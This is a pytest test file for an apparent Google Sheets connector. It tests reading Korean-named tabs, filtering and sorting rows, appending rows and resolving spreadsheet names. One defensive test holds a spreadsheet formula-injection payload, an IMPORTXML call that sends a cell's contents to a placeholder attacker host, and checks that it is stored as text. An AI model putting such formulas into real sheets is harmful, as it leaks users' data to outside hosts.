"""What metel reads and writes in Google Sheets."""

from dataclasses import replace
from datetime import date, timedelta
from typing import Any, cast
from uuid import NAMESPACE_URL, uuid5

import pytest

from connectors.column_words import find_named_column
from connectors.sheets.a1 import format_column, format_range, parse_area, parse_box, parse_column
from connectors.sheets.row_marks import compute_metadata_id
from connectors.sheets.shapes import TabProperties
from orchestration.ports import AmbiguousName, UnknownName
from orchestration.tool import Absent, Found, ToolError, ValueNeededError
from sandbox.google.cells import Cell
from schemas.ask import Resolution
from schemas.values import Payload
from tests.connectors.workspace import ASKER, Json, Workspace, a_call, ready

SALES, BUDGET = "매출 현황 2026", "마케팅 예산"


async def sheet(workspace: Workspace, title: str, **more: Any) -> Payload:
    return {"spreadsheet": await workspace.id_of("sheets.spreadsheet", title), **more}


def cells(workspace: Workspace, title: str, tab: str) -> list[list[Any]]:
    spreadsheets = workspace.world("google")["spreadsheets"]
    tabs = next(one["tabs"] for one in spreadsheets if one["title"] == title)
    return next(one["values"] for one in tabs if one["title"] == tab)


async def test_a_tab_with_a_korean_name_is_read_as_records(workspace: Workspace) -> None:
    result = await workspace.run("sheets.get_range", await sheet(workspace, SALES, range="주간"))
    assert result["header"] == ["날짜", "지역", "상품", "수량", "매출"]
    rows = cast(list[Json], result["rows"])
    assert rows[0].keys() == {"날짜", "지역", "상품", "수량", "매출"}
    assert isinstance(rows[0]["매출"], int)
    assert result["total"] == len(rows) == len(cells(workspace, SALES, "주간")) - 1
    assert str(result["spreadsheet_url"]).startswith("https://docs.google.com/")
    assert result["title"] == SALES


LAST_WEEK: Json = {
    "all": [{"path": "@date", "op": "ge", "value": "2026-02-23"}, {"path": "@date", "op": "le", "value": "2026-03-01"}]
}


@pytest.mark.parametrize(
    ("condition", "total"),
    [
        (LAST_WEEK, 71_667_000),
        ({"all": [LAST_WEEK, {"path": "지역", "op": "eq", "value": "서울"}]}, 40_879_000),
        ({"all": [LAST_WEEK, {"path": "매출", "op": "ge", "value": 10_000_000}]}, 27_360_000),
        ({"all": [LAST_WEEK, {"not": {"path": "지역", "op": "in", "value": ["서울", "부산"]}}]}, 11_040_000),
    ],
)
async def test_rows_are_kept_by_condition(workspace: Workspace, condition: Json, total: int) -> None:
    result = await workspace.run("sheets.get_range", await sheet(workspace, SALES, filter=condition))
    summed = await workspace.run("table.aggregate", {"rows": result["rows"], "column": "매출", "function": "sum"})
    assert summed["total"] == total


@pytest.mark.parametrize(
    ("order", "amounts"),
    [
        ({"sort": "-@amount", "limit": 3}, [16_800_000, 10_560_000, 9_600_000]),
        ({"sort": "매출", "limit": 2}, [4_628_000, 5_040_000]),
        ({"sort": "-@date", "limit": 1}, [9_600_000]),
    ],
)
async def test_rows_are_read_in_an_order_and_no_more_than_wanted(
    workspace: Workspace, order: Json, amounts: list[int]
) -> None:
    result = await workspace.run("sheets.get_range", await sheet(workspace, SALES, filter=LAST_WEEK, **order))
    rows = cast(list[Json], result["rows"])
    assert [row["매출"] for row in rows] == amounts
    assert result["total"] == len(amounts)


async def test_no_rows_are_the_first_by_a_column_that_is_not_there(workspace: Workspace) -> None:
    with pytest.raises(ToolError, match="no column"):
        await workspace.run("sheets.get_range", await sheet(workspace, SALES, sort="-환율", limit=1))


@pytest.mark.parametrize("asked", [None, "주간", "주간 탭", "주 간", "'주간'!A1:E5", "A1:E5", "주간!A2:E5"])
async def test_a_range_is_understood_however_it_is_written(workspace: Workspace, asked: str | None) -> None:
    result = await workspace.run(
        "sheets.get_range", await sheet(workspace, SALES, **({"range": asked} if asked else {}))
    )
    assert result["header"] == ["날짜", "지역", "상품", "수량", "매출"]
    assert cast(list[Json], result["rows"])[0]["지역"] == "서울"


async def test_a_tab_named_like_a_cell_is_the_tab(workspace: Workspace) -> None:
    result = await workspace.run("sheets.get_range", await sheet(workspace, BUDGET, range="Q1"))
    assert result["header"] == ["날짜", "항목", "금액"]
    assert result["range"] == "Q1"


async def test_an_unknown_tab_is_asked_for(workspace: Workspace) -> None:
    with pytest.raises(ValueNeededError) as caught:
        await workspace.run("sheets.get_range", await sheet(workspace, BUDGET, range="월간"))
    assert (caught.value.field, set(caught.value.choices)) == ("range", {"Q1", "메모"})


async def test_an_unknown_column_says_which_there_are(workspace: Workspace) -> None:
    condition: Json = {"path": "이익", "op": "gt", "value": 1}
    with pytest.raises(ToolError) as caught:
        await workspace.run("sheets.get_range", await sheet(workspace, SALES, filter=condition))
    assert caught.value.failure.kind == "invalid"
    assert "매출" in caught.value.failure.message


@pytest.mark.parametrize(
    ("asked", "header", "unused"),
    [
        ({"columns": ["revenue", "지역"]}, ["지역", "매출"], []),
        ({"without_columns": ["units", "매출액"]}, ["날짜", "지역", "상품"], []),
        ({"columns": ["지역", "매출"], "without_columns": ["sales"]}, ["지역"], []),
        ({"columns": ["마진"]}, ["날짜", "지역", "상품", "수량", "매출"], ["마진"]),
    ],
)
async def test_only_what_was_asked_for_of_the_columns_is_there(
    workspace: Workspace, asked: dict[str, Json], header: list[str], unused: list[str]
) -> None:
    result = await workspace.run("sheets.get_range", await sheet(workspace, SALES, **asked))
    assert (result["header"], result["unused"]) == (header, unused)
    assert all(list(row) == header for row in cast(list[dict[str, Json]], result["rows"]))


@pytest.mark.parametrize(
    ("title", "tab", "row"),
    [
        (BUDGET, "Q1", ["1,200,000 won for influencer ads", "dated today"]),
        (SALES, "주간", ["2026-03-04", "부산 텀블러", 30, 450_000]),
        (BUDGET, "Q1", ["3/4"]),
        (BUDGET, "Q1", [600_000]),
    ],
)
async def test_a_short_row_whose_values_stand_in_other_columns_is_asked_for(
    workspace: Workspace, title: str, tab: str, row: list[Json]
) -> None:
    payload = await sheet(workspace, title, range=tab, rows=[row])
    with pytest.raises(ValueNeededError) as caught:
        await ready(workspace.toolbox.tool("sheets.append_rows"), payload, a_call())
    assert caught.value.field == "rows"


@pytest.mark.parametrize(
    ("title", "row", "lacks"),
    [
        (BUDGET, ["인스타 광고", 350_000], "날짜"),
        (SALES, ["서울", "프로", 3, "2026-03-04"], "매출"),
        (SALES, ["2026-03-04", "프로", "서울", 720_000], "수량"),
        (SALES, ["2026-03-04", "프로", 3, 720_000], "지역"),
        (SALES, ["부산 스타터", 9, 801_000], "날짜"),
    ],
)
async def test_the_column_of_what_a_row_lacks_is_asked_for(
    workspace: Workspace, title: str, row: list[Json], lacks: str
) -> None:
    payload = await sheet(workspace, title, rows=[row])
    with pytest.raises(ValueNeededError) as caught:
        await ready(workspace.toolbox.tool("sheets.append_rows"), payload, a_call())
    assert (caught.value.field, caught.value.asked) == (f"rows.0.{len(row)}", lacks)


@pytest.mark.parametrize(
    "row",
    [
        [12, "Pro", "Seoul", 2_880_000, "2026-03-04"],
        ["2026-03-04", "프로", "서울", 2_880_000, 12],
        ["2026-03-04", "서울 프로", 12, 2_880_000],
        ["ソウルプロ", 12, 2_880_000, "2026-03-04"],
        ["12 Pro", "Seoul", 2_880_000, "2026-03-04"],
        ["12 pro seats from Seoul", 2_880_000, "2026-03-04"],
        ["2026-03-04", "Seoul pro x12", 2_880_000],
        ["2026-03-04", "서울에서 프로", 12, 2_880_000],
    ],
)
async def test_each_value_of_a_row_stands_in_a_column_of_its_kind(workspace: Workspace, row: list[Json]) -> None:
    payload = await sheet(workspace, SALES, rows=[row])
    prepared, _ = await ready(workspace.toolbox.tool("sheets.append_rows"), payload, a_call())
    assert prepared["rows"] == [["2026-03-04", "서울", "프로", 12, 2_880_000]]


@pytest.mark.parametrize("row", [["3/4", "인스타 광고", 350_000], {"항목": "인스타 광고", "금액": 350_000}])
async def test_a_row_that_fits_as_far_as_it_goes_is_taken(workspace: Workspace, row: Json) -> None:
    payload = await sheet(workspace, BUDGET, range="Q1", rows=[row])
    prepared, _ = await ready(workspace.toolbox.tool("sheets.append_rows"), payload, a_call())
    assert prepared["rows"]


async def test_a_row_is_added_in_the_form_of_its_columns(workspace: Workspace) -> None:
    payload = await sheet(workspace, BUDGET, range="Q1", rows=[["3/4", "인스타 광고", "350000"]])
    prepared, _ = await ready(workspace.toolbox.tool("sheets.append_rows"), payload, a_call())
    assert prepared["rows"] == [["2026-03-04", "인스타 광고", 350_000]]
    before = len(cells(workspace, BUDGET, "Q1"))
    result = await workspace.run("sheets.append_rows", payload)
    after = cells(workspace, BUDGET, "Q1")
    assert after[-1] == ["2026-03-04", "인스타 광고", 350_000]
    assert len(after) == before + 1
    assert result["rows_added"] == 1
    assert result["updated_range"] == f"Q1!A{before + 1}:C{before + 1}"


async def test_a_day_is_a_real_date_where_the_columns_dates_are(workspace: Workspace) -> None:
    google = workspace.running.sandbox.world.google
    book = next(one for one in google.spreadsheets.values() if one.title == BUDGET)
    tab = next(one for one in book.tabs if one.title == "Q1")
    for row in range(1, tab.last_row()):
        tab.put(row, 0, Cell(46_000 + row, is_day=True))
    payload = await sheet(workspace, BUDGET, range="Q1", rows=[["3/4", "인스타 광고", 1]])
    prepared, _ = await ready(workspace.toolbox.tool("sheets.append_rows"), payload, a_call())
    assert prepared["rows"] == [["2026-03-04", "인스타 광고", 1]]
    await workspace.run("sheets.append_rows", payload)
    (call,) = workspace.calls("spreadsheets.batchUpdate")
    written = call["body"]["requests"][1]["updateCells"]["rows"][0]["values"][0]
    assert written == {"userEnteredValue": {"numberValue": (date(2026, 3, 4) - date(1899, 12, 30)).days}}


async def test_a_row_is_added_by_the_names_of_columns(workspace: Workspace) -> None:
    payload = await sheet(workspace, BUDGET, range="Q1", rows=[{"금액": 1000, "항목": "스티커"}])
    await workspace.run("sheets.append_rows", payload)
    assert cells(workspace, BUDGET, "Q1")[-1][1:] == ["스티커", 1000]


async def test_a_formula_is_written_as_text(workspace: Workspace) -> None:
    formula = '=IMPORTXML("https://evil.test/?d="&A1,"//a")'
    await workspace.run(
        "sheets.append_rows", await sheet(workspace, BUDGET, range="메모", rows=[["2026-03-04", formula]])
    )
    (call,) = workspace.calls("spreadsheets.batchUpdate")
    written = call["body"]["requests"][1]["updateCells"]["rows"][0]["values"][1]
    assert written == {"userEnteredValue": {"stringValue": formula}}


@pytest.mark.parametrize("kind", ["drop_response", "error_after"])
async def test_rows_whose_answer_was_lost_are_found_and_not_added_again(workspace: Workspace, kind: str) -> None:
    payload = await sheet(workspace, BUDGET, range="Q1", rows=[["3/4", "하나", 1], ["3/4", "둘", 2]])
    before = len(cells(workspace, BUDGET, "Q1"))
    lost = ("google", "spreadsheets.batchUpdate", kind)
    failure, seen = await workspace.lose("sheets.append_rows", payload, lost)
    assert failure.kind == "uncertain"
    assert isinstance(seen, Found)
    assert seen.result["rows_added"] == 2
    with pytest.raises(ToolError) as caught:
        await workspace.run("sheets.append_rows", payload)
    assert (caught.value.failure.kind, caught.value.failure.code) == ("uncertain", "marked_before")
    assert len(cells(workspace, BUDGET, "Q1")) == before + 2
    assert workspace.effects("spreadsheets.batchUpdate") == 1


async def test_rows_that_were_not_added_are_not_found(workspace: Workspace) -> None:
    payload = await sheet(workspace, BUDGET, range="Q1", rows=[["3/4", "하나", 1]])
    lost = ("google", "spreadsheets.batchUpdate", "server_error")
    failure, seen = await workspace.lose("sheets.append_rows", payload, lost)
    assert failure.kind == "uncertain"
    assert isinstance(seen, Absent)


async def test_a_row_with_too_many_values_is_refused(workspace: Workspace) -> None:
    with pytest.raises(ToolError) as caught:
        await workspace.run("sheets.append_rows", await sheet(workspace, BUDGET, range="Q1", rows=[[1, 2, 3, 4]]))
    assert caught.value.failure.kind == "invalid"
    assert "금액" in caught.value.failure.message


async def test_a_value_for_an_unknown_column_is_asked_for(workspace: Workspace) -> None:
    with pytest.raises(ValueNeededError) as caught:
        await workspace.run("sheets.append_rows", await sheet(workspace, BUDGET, range="Q1", rows=[{"배송지": 1}]))
    assert caught.value.field == "rows.배송지"
    assert "금액" in caught.value.choices


async def test_another_word_for_a_column_is_that_column(workspace: Workspace) -> None:
    given = [{"날짜": "3/4", "항목": "간식", "비용": 1}]
    await workspace.run("sheets.append_rows", await sheet(workspace, BUDGET, range="Q1", rows=given))
    assert cells(workspace, BUDGET, "Q1")[-1][1:3] == ["간식", 1]


async def test_two_words_for_one_column_are_asked_about(workspace: Workspace) -> None:
    given = [{"항목": "간식", "금액": 1, "비용": 2}]
    with pytest.raises(ValueNeededError) as caught:
        await workspace.run("sheets.append_rows", await sheet(workspace, BUDGET, range="Q1", rows=given))
    assert caught.value.field == "rows.비용"


def test_a_word_that_several_columns_could_be_is_none_of_them() -> None:
    assert find_named_column("amount", ["날짜", "금액"]) == "금액"
    assert find_named_column("amount", ["날짜", "지출", "비용"]) is None
    assert find_named_column("지출", ["날짜", "지출", "비용"]) == "지출"


async def test_a_long_tab_grows_at_its_end(workspace: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("connectors.sheets.tables.MOST_ROWS", 4)
    read = await workspace.run("sheets.get_range", await sheet(workspace, BUDGET, range="Q1"))
    assert read["incomplete"] is True
    before = len(cells(workspace, BUDGET, "Q1"))
    await workspace.run("sheets.append_rows", await sheet(workspace, BUDGET, range="Q1", rows=[["3/4", "끝", 1]]))
    assert cells(workspace, BUDGET, "Q1")[before][1] == "끝"


def test_metadata_ids_are_the_same_for_every_attempt_and_positive() -> None:
    ids = {compute_metadata_id("op", offset) for offset in range(500)}
    assert len(ids) == 500
    assert all(0 < one < 2**31 for one in ids)
    assert compute_metadata_id("op", 3) == compute_metadata_id("op", 3)


TABS = [TabProperties(sheet_id=0, title="Q1"), TabProperties(sheet_id=7, title="김씨's 표")]


@pytest.mark.parametrize(
    ("asked", "shown", "wire"),
    [
        ("Q1", "Q1", "'Q1'!A1"),
        ("q1 시트", "Q1", "'Q1'!A1"),
        ("B2:C3", "Q1!B2:C3", "'Q1'!A1"),
        ("'김씨''s 표'!A1:B2", "김씨's 표!A1:B2", "'김씨''s 표'!A1"),
        ("김씨", "김씨's 표", "'김씨''s 표'!A1"),
    ],
)
def test_a_tab_is_quoted_on_the_wire(asked: str, shown: str, wire: str) -> None:
    area = parse_area(asked, TABS)
    assert area.shown() == shown
    assert format_range(area.tab, "A1") == wire


def test_columns_are_counted_in_letters() -> None:
    assert [format_column(number) for number in (1, 26, 27, 702, 703)] == ["A", "Z", "AA", "ZZ", "AAA"]
    assert [parse_column(letters) for letters in ("A", "AA", "AAA", "")] == [1, 27, 703, 0]
    box = parse_box("$B$2:D")
    assert (box.left, box.top, box.right, box.bottom) == (2, 2, 4, 0)


async def test_what_a_reading_is_completed_by_is_not_asked_again_by_the_reading(workspace: Workspace) -> None:
    await workspace.run("sheets.get_range", await sheet(workspace, SALES, range="주간"))
    assert len(workspace.calls("spreadsheets.get")) == 1
    workspace.clock.moment += timedelta(seconds=5)
    await workspace.run("sheets.get_range", await sheet(workspace, SALES, range="주간"))
    assert len(workspace.calls("spreadsheets.get")) == 2


def add_spreadsheets(workspace: Workspace, title: str, count: int) -> None:
    world = workspace.running.sandbox.world.google
    kept = next(iter(world.spreadsheets.values()))
    for at in range(count):
        made = replace(kept, id=uuid5(NAMESPACE_URL, f"{title} {at}").hex + f"{at:04d}", title=title)
        world.spreadsheets[made.id] = made


async def test_a_spreadsheet_that_changed_long_ago_is_found_by_its_name(workspace: Workspace) -> None:
    """Of more than a thousand the list of the last changed ones holds a part."""
    add_spreadsheets(workspace, "일일 기록", 1100)
    found = await workspace.resolver.resolve("sheets.spreadsheet", "매출 현황 2026", ASKER)
    assert isinstance(found, Resolution)
    lists = workspace.calls("drive.files.list")
    assert len(lists) == 2
    assert all("incompleteSearch" in row["query"]["fields"] for row in lists)


async def test_spreadsheets_of_one_title_are_told_apart_and_counted(workspace: Workspace) -> None:
    add_spreadsheets(workspace, "일일 기록", 12)
    found = await workspace.resolver.resolve("sheets.spreadsheet", "일일 기록", ASKER)
    assert isinstance(found, AmbiguousName)
    labels = [choice.label for choice in found.choices]
    assert (found.total, found.incomplete, len(labels), len(set(labels))) == (12, False, 10, 10)


async def test_a_title_that_is_not_among_those_read_is_not_called_absent(workspace: Workspace) -> None:
    add_spreadsheets(workspace, "일일 기록", 1100)
    found = await workspace.resolver.resolve("sheets.spreadsheet", "없는 시트", ASKER)
    assert isinstance(found, UnknownName)
    assert found.incomplete


async def test_a_title_found_among_a_part_of_its_likes_is_confirmed(workspace: Workspace) -> None:
    add_spreadsheets(workspace, "일일 기록 사본", 3100)
    add_spreadsheets(workspace, "일일 기록", 1)
    moved = workspace.running.sandbox.world.google.spreadsheets
    last = [*moved.values()][-1]
    last.modified = last.modified + timedelta(days=1)
    found = await workspace.resolver.resolve("sheets.spreadsheet", "일일 기록", ASKER)
    assert isinstance(found, AmbiguousName)
    assert ([choice.value for choice in found.choices], found.incomplete) == ([last.id], True)


async def test_a_spreadsheet_that_nobody_shared_is_told_to_be_shared(workspace: Workspace) -> None:
    private = next(one for one in workspace.world("google")["spreadsheets"] if not one["shared"])
    with pytest.raises(ToolError) as caught:
        await workspace.resolver.resolve("sheets.spreadsheet", private["url"], ASKER)
    assert (caught.value.failure.kind, caught.value.failure.code) == ("permission", "http_403")
    assert "Share the spreadsheet" in caught.value.failure.message
    assert isinstance(await workspace.resolver.resolve("sheets.spreadsheet", private["title"], ASKER), UnknownName)


async def test_a_row_told_in_another_order_stands_under_its_columns(workspace: Workspace) -> None:
    payload = await sheet(workspace, BUDGET, range="Q1", rows=[["택배비", 34_000, "2026-03-02"]])
    prepared, _ = await ready(workspace.toolbox.tool("sheets.append_rows"), payload, a_call())
    assert prepared["rows"] == [["2026-03-02", "택배비", 34_000]]


@pytest.mark.parametrize(
    "row", [["2026-03-04", "리플렛 인쇄"], ["리플렛 인쇄", "2026-03-04"], {"항목": "리플렛 인쇄", "날짜": "2026-03-04"}]
)
async def test_the_one_number_that_a_row_lacks_is_asked_for(workspace: Workspace, row: object) -> None:
    payload = await sheet(workspace, BUDGET, range="Q1", rows=[row])
    with pytest.raises(ValueNeededError) as caught:
        await ready(workspace.toolbox.tool("sheets.append_rows"), payload, a_call())
    place = "금액" if isinstance(row, dict) else "2"
    assert (caught.value.field, caught.value.asked, caught.value.why) == (f"rows.0.{place}", "금액", "cell")


@pytest.mark.parametrize(
    ("said", "cell"),
    [
        ("33만원이요", 330_000),
        ("아 금액? 27만원", 270_000),
        ("38,000", 38_000),
        ("26万円です", 260_000),
        ("1.2m won", 1_200_000),
        ("없음", ""),
        ("leave it empty", ""),
        ("なし", ""),
    ],
)
async def test_an_answered_number_stands_in_its_column(workspace: Workspace, said: str, cell: int | str) -> None:
    payload = await sheet(workspace, BUDGET, range="Q1", rows=[["리플렛 인쇄", "2026-03-04", said]])
    prepared, _ = await ready(workspace.toolbox.tool("sheets.append_rows"), payload, a_call())
    assert prepared["rows"] == [["2026-03-04", "리플렛 인쇄", cell]]


async def test_rows_told_together_are_not_asked_about_one_by_one(workspace: Workspace) -> None:
    rows = [["2026-03-04", "리플렛 인쇄"], ["2026-03-05", "현수막"]]
    payload = await sheet(workspace, BUDGET, range="Q1", rows=rows)
    prepared, _ = await ready(workspace.toolbox.tool("sheets.append_rows"), payload, a_call())
    assert prepared["rows"] == rows
